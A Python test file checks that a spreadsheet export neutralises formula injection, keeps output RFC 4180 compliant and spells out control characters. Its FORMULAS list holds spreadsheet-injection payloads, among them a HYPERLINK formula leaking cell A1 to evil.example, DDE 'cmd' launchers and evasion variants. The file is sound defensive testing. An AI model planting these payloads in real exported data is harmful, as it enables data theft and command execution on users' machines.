"""Tables are RFC 4180, and no cell of them is ever calculated."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rashomon.telling.exports.spreadsheet import harmless, sheet
from rashomon.telling.wording import visible

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"read on")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "'=1+1",
    '"=1+1"',
    "＝1+1",
    "a;=1+1",
    'a;"=1+1"',
    "a\n=1+1",
    "a\t@b",
]


def _read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_text(formula: str) -> None:
    # As a reader sees it that takes commas for separators, and as one that takes semicolons.
    for separator in ",;\t":
        table = io.StringIO(sheet(["words"], [[formula]]).decode("utf-8-sig"), newline="")
        for row in csv.reader(table, delimiter=separator):
            assert not [c for c in row if c.lstrip().lstrip('"').startswith(tuple("=+-@＝＋－＠"))]


@pytest.mark.parametrize("number", ["-5", "-5.25", "12"])
def test_a_number_stays_one(number: str) -> None:
    assert harmless(number) == number


@pytest.mark.parametrize("plain", ["2 + 2 = 4", "one-way", "ada@example.org", "it's so", "‘=’"])
def test_words_that_only_hold_such_a_sign_stay_as_they_are(plain: str) -> None:
    assert harmless(plain) == plain


@given(st.text())
def test_taking_the_apostrophes_away_gives_the_words_back(words: str) -> None:
    shown = harmless(words)
    again = re.sub(r"((?:^|[;\t\n])[\s\"']*)'(?=[=+\-@＝＋－＠])", r"\1", shown)
    assert again == visible(words)


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=4))
def test_what_is_written_is_read_again_cell_by_cell(rows: list[list[str]]) -> None:
    table = _read(sheet(["one", "two"], rows))
    assert table == [["one", "two"], *([harmless(cell) for cell in row] for row in rows)]


def test_lines_end_as_the_standard_has_it_and_the_encoding_is_named() -> None:
    data = sheet(["a", "b"], [["x, y", 'say "so"'], [None, True], [2.0, 2.5]])
    assert data == '\ufeffa,b\r\n"x, y","say ""so"""\r\n,true\r\n2,2.5\r\n'.encode()


def test_control_characters_are_spelt_out() -> None:
    assert harmless("a\x1b[31mb\x9bc\u202ed\x00") == "a⟨U+001B⟩[31mb⟨U+009B⟩c⟨U+202E⟩d⟨U+0000⟩"
